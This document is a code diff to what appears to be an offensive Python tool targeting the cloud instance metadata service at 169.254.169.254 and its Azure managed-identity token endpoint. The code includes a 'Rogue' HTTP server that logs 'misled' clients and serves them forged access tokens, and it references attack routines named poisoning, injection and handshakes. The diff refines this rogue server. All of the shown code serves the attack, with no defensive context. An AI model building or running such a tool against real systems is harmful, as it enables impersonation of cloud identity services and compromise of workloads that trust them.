@@ -8,7 +8,6 @@ import random
 import socket
 import struct
 import sys
-import threading
 import time
 
 from frames import (
@@ -17,7 +16,6 @@ from frames import (
 
 METADATA = "169.254.169.254"
 TARGET = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
-EXTENSION = "/oauth2/token?resource=https%3A%2F%2Fmanagement.azure.com%2F"
 # Longest time for which an attempt waits for its answer, in seconds.
 PATIENCE = 0.5
 # The object id in what the attacker serves to those who are misled.
@@ -196,7 +194,7 @@ class Rogue(http.server.BaseHTTPRequestHandler):
 
     def do_GET(self):
         print("misled", self.client_address[0], flush=True)
-        body = json.dumps({"access_token": forged_token(), "expires_in": "86399", "token_type": "Bearer"}).encode()
+        body = json.dumps({"access_token": forged_token(), "expires_in": "86399"}, separators=(",", ":")).encode()
         self.send_response(200)
         self.send_header("Content-Length", str(len(body)))
         self.end_headers()
@@ -208,11 +206,8 @@ class Rogue(http.server.BaseHTTPRequestHandler):
         pass
 
 
-def rogue(*addresses):
-    for address in addresses[1:]:
-        server = http.server.ThreadingHTTPServer((address, 80), Rogue)
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-    http.server.ThreadingHTTPServer((addresses[0], 80), Rogue).serve_forever()
+def rogue(address, port):
+    http.server.ThreadingHTTPServer((address, int(port)), Rogue).serve_forever()
 
 
 ATTACKS = {function.__name__: function for function in (requests, poisoning, injection, handshakes)}
